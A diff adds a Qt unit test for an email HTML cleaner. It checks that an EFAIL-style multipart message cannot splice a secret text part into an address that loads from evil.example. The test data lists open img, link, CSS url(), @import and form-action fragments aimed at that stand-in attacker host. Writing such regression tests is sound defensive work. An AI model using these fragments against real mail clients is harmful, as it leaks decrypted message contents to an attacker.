@@ -1,6 +1,7 @@
 #include "HtmlJudge.h"
 #include "MessageFixture.h"
 #include "message/HtmlCleaner.h"
+#include "message/MessageReader.h"
 
 #include <QRegularExpression>
 #include <QTest>
@@ -244,6 +245,41 @@ private Q_SLOTS:
             QCOMPARE(twice.blockedRemote, 0);
             QVERIFY2(twice.remoteHosts.isEmpty(), qPrintable(once.document));
         }
+    }
+
+    /// EFAIL: one part opens an address, the next one is a secret, the last one closes it.
+    void noPartBecomesTheAddressInAnother_data()
+    {
+        QTest::addColumn<QByteArray>("opening");
+        for (const char* opening :
+             {"<img src=\"https://evil.example/", "<img src='https://evil.example/",
+              "<img src=https://evil.example/", "<a href=\"https://evil.example/",
+              "<img src=\"https://evil.example/\" alt=", "<!-- ",
+              "<style>p{background:url(https://evil.example/", "<style>@import 'https://evil.example/",
+              "<textarea name=x>", "<title>", "<xmp>", "<iframe srcdoc=\"", "<select><option>",
+              "<svg><style>", "<math><![CDATA[", "<form action=https://evil.example><input value='"})
+            QTest::newRow(opening) << QByteArray(opening);
+    }
+
+    void noPartBecomesTheAddressInAnother()
+    {
+        QFETCH(const QByteArray, opening);
+        const QByteArray raw =
+            "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: "
+            "text/html\r\n\r\n<p>a</p>" +
+            opening +
+            "\r\n--b\r\nContent-Type: text/plain\r\n\r\ngizli\r\n--b\r\nContent-Type: text/html\r\n\r\n" +
+            "\"'>--></style></textarea><p>z</p>\r\n--b--\r\n";
+        const MessageContent content = readMessage(raw);
+        for (const RemoteContent remote : {RemoteContent::Blocked, RemoteContent::Allowed}) {
+            const QString document = cleanHtml(content.html, remote, {}).document;
+            QVERIFY2(!document.contains(QRegularExpression(text("<[^>]*gizli"))), qPrintable(document));
+            QVERIFY2(!document.contains(QRegularExpression(text("url\\([^)]*gizli"))), qPrintable(document));
+            QVERIFY2(htmlToText(document).contains(text("gizli")), qPrintable(document));
+            QVERIFY2(htmlToText(document).contains(text("z")), qPrintable(document));
+        }
+        // What is written in one part is seen as it was without the end that is put behind it.
+        QVERIFY(!htmlToText(content.html).contains(text("]]")));
     }
 
     void remoteImagesWhenAllowedAreOnlyWebAddresses()
